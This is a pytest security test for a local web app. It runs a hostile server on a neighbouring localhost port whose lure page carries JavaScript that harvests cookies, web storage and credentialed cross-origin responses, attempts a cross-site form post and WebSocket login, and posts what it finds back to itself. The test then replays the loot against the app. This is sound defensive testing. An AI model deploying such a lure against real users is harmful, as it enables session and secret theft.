"""What another server of this computer gets from a browser that has a page open, and what it can do with that: nothing.

Cookies know no ports: what the browser keeps for one server of a host name it sends to each of them. So a second server
lures the browser in every way that a page has, keeps all it is sent or told, and then tries to come in with it.
"""

from __future__ import annotations

import contextlib
import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

pytest.importorskip("httpx", reason="needs the Python package httpx")
pytest.importorskip("websockets", reason="needs the Python package websockets")

import httpx
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import connect

from tests.pages.page_tools import online_at
from tests.waiting import PATIENCE_S, wait_for

PATIENCE_MS = 1_000 * PATIENCE_S
LURE = """<!doctype html><title>Lovely tunes</title>
<iframe src="TARGET/"></iframe><img src="TARGET/kit/icon.svg"><script src="TARGET/texts.json"></script>
<form method="post" enctype="text/plain" action="TARGET/enter" target="taken"><input name="a" value="b"></form>
<script type="module">
const tell = (what, told) =>
  fetch("/told", { method: "POST", body: JSON.stringify({ what, told: String(told) }), credentials: "include" });
const tried = async (what, does) => {
  try { await tell(what, await does()); } catch (error) { await tell(what, error); }
};
await tell("kept", JSON.stringify([document.cookie, document.referrer, name, localStorage, sessionStorage]));
await tried("opener", () => opener.location.href);
for (const mode of ["cors", "no-cors"])
  for (const path of ["/", "/texts.json", "/voice.json", "/phrase.json", "/enter"])
    await tried(mode + path, async () => (await fetch("TARGET" + path, { mode, credentials: "include" })).text());
await tried("enter", async () =>
  (await fetch("TARGET/enter", { method: "POST", body: "x", mode: "no-cors", credentials: "include" })).text());
await tried("frame", () => frames[0].document.body.textContent);
await tried("frame's place", () => frames[0].location.href);
await tried("line", () => new Promise((is) => {
  const line = new WebSocket("TARGET/live".replace("http", "ws"));
  line.onmessage = ({ data }) => is(data);
  line.onclose = is;
  line.onopen = () => line.send('{"kind": "enter", "secret": ""}');
}));
document.forms[0].submit();
await tell("done", "");
</script>
"""


class Neighbour(ThreadingHTTPServer):
    """A server at another port, with a page that lures; `told` is all that a browser has sent it."""

    def __init__(self, target: str) -> None:
        self.told: list[str] = []
        self.done = 0
        super().__init__(("127.0.0.1", 0), _handler(self, LURE.replace("TARGET", target)))

    @contextlib.contextmanager
    def running(self) -> Iterator[Neighbour]:
        thread = threading.Thread(target=self.serve_forever, args=(0.02,))
        thread.start()
        yield self
        self.shutdown()
        thread.join()
        self.server_close()


def _handler(server: Neighbour, lure: str) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", "0"))).decode()
            server.told.append(f"{self.requestline}\n{self.headers}\n{body}")
            server.done += '"done"' in body
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(lure.encode())

        do_GET = do_POST = _answer  # noqa: N815 - the library's own names

        def log_message(self, *_: object) -> None:
            pass

    return Handler


def comes_in(address: str, cookie: str, words: set[str]) -> list[str]:
    """What of all this lets a stranger in: as a cookie, as a secret, or as a token."""
    ours = {"Origin": address, "Cookie": cookie}
    let_in = []
    stranger = httpx.Client(base_url=address, headers=ours, timeout=PATIENCE_S)
    for word in words:
        known = {**ours, "Authorization": f"Bearer {word}"}
        if stranger.get("/voice.json", headers=known).status_code == 200:
            let_in.append(f"asks with {word}")
        if stranger.post("/enter", content=word).status_code == 200:
            let_in.append(f"enters with {word}")
        line = connect(f"{address}/live".replace("http", "ws"), additional_headers=known)
        with contextlib.suppress(InvalidStatus, ConnectionClosed), line as socket:
            socket.send(json.dumps({"kind": "enter", "secret": word}))
            let_in.append(f"hears with {word}: {str(socket.recv(timeout=PATIENCE_S))[:40]}")
    return let_in


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_what_a_browser_tells_another_server_of_this_computer_opens_nothing(browser, name):
    with online_at() as online:
        address = f"http://{name}:{online.port}"
        entry = online.served.url.replace("127.0.0.1", name)
        with Neighbour(address).running() as neighbour, contextlib.closing(browser.new_context()) as context:
            lure = f"http://{name}:{neighbour.server_port}/"
            held: list[str] = []
            context.on("request", lambda request: held.append(request.headers.get("authorization", "")))
            page = context.new_page()
            page.goto(entry)
            page.locator("#start").wait_for(timeout=PATIENCE_MS)
            # In a tab beside it, in its own tab after it, and in one that has opened it.
            other = context.new_page()
            other.goto(lure)
            wait_for(lambda: neighbour.done == 1, "the lure beside the page")
            other.evaluate(f"window.open({entry.partition('#')[0]!r}, 'taken')")
            page.evaluate(f"location.href = {lure!r}")
            wait_for(lambda: neighbour.done == 2, "the lure after the page")
            page.go_back()
            page.locator("#start").wait_for(timeout=PATIENCE_MS)
            page.evaluate(f"window.open({lure!r})")
            wait_for(lambda: neighbour.done == 3, "the lure that the page opened")
        told = "\n".join(neighbour.told)
        cookie = "; ".join(re.findall(r"^Cookie: (.*)$", told, re.MULTILINE | re.IGNORECASE))
        words = {word for word in re.findall(r"[\w-]+", told) if len(word) > 12} | {"x"}
        assert comes_in(address, cookie, words) == []
        assert entry.partition("#")[2] not in told
        for secret in filter(None, {each.removeprefix("Bearer ") for each in held}):
            assert secret not in told
